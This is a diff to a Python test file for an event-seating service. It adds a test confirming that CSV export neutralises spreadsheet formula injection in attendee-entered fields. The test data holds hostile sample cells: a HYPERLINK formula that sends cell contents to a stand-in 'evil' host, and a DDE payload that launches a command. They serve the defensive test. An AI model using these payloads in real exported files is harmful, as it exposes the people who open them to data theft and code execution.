@@ -15,7 +15,7 @@ from services.scheduling.domain.gathering import Gathering, Plan, gathering_deci
 from services.scheduling.domain.seating import IssuePrintLink, PlanTables, RevokePrintLink, SetTables
 from services.scheduling.events import GatheringPlanned, PrintLinkIssued, PrintLinkRevoked, TableSpec
 from services.scheduling.http.printout import PATTERNS, printable_plan, room_map
-from services.scheduling.http.sheets import CSV_COLUMNS, natural, seating_csv, table_sheets
+from services.scheduling.http.sheets import CSV_COLUMNS, natural, seating_csv, spreadsheet_text, table_sheets
 from shared.domain.errors import InvalidCommand, NotFound
 from shared.domain.specification import DeciderSpecification
 
@@ -93,6 +93,20 @@ def test_the_csv_has_a_row_per_person_in_table_and_seat_order_for_a_mail_merge()
     assert first["organisation"] == HOSTILE and first["access_needs"] == "Step-free access"
     assert first["perspective"] == "lived_experience" and first["perspective_label"] == "Lived experience"
     assert first["date"] == "Saturday 12 September 2026, 10:00\u201316:00" and first["venue"] == "Community hall"
+
+
+def test_what_a_member_typed_never_runs_as_a_formula_when_the_csv_is_opened() -> None:
+    formulas = ['=HYPERLINK("http://evil/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@sum(1)", "\t=1+1",
+                "\r=1", "  =1+1"]
+    g = _gathering()
+    g = gathering_decider.evolve(g, next(iter(gathering_decider.decide(Register(person=Person(
+        attendee_id=uuid.UUID(int=900), name=formulas[0], organisation=formulas[1], perspective="other"), at=T0), g))))
+    assert [spreadsheet_text(cell) for cell in formulas] == ["'" + cell for cell in formulas]
+    assert [spreadsheet_text(cell) for cell in ("Ada", "O'Neil", "", 3, "Table 1")] == ["Ada", "O'Neil", "", 3, "Table 1"]
+    rows = list(csv.DictReader(io.StringIO(seating_csv(gathering_decider.evolve(g, next(iter(
+        gathering_decider.decide(PlanTables(at=T0), g)))), "Europe/London"))))
+    [theirs] = [r for r in rows if "HYPERLINK" in r["name"]]
+    assert theirs["name"] == "'" + formulas[0] and theirs["organisation"] == "'" + formulas[1]
 
 
 def test_the_room_map_shows_names_and_letters_not_only_colours() -> None:
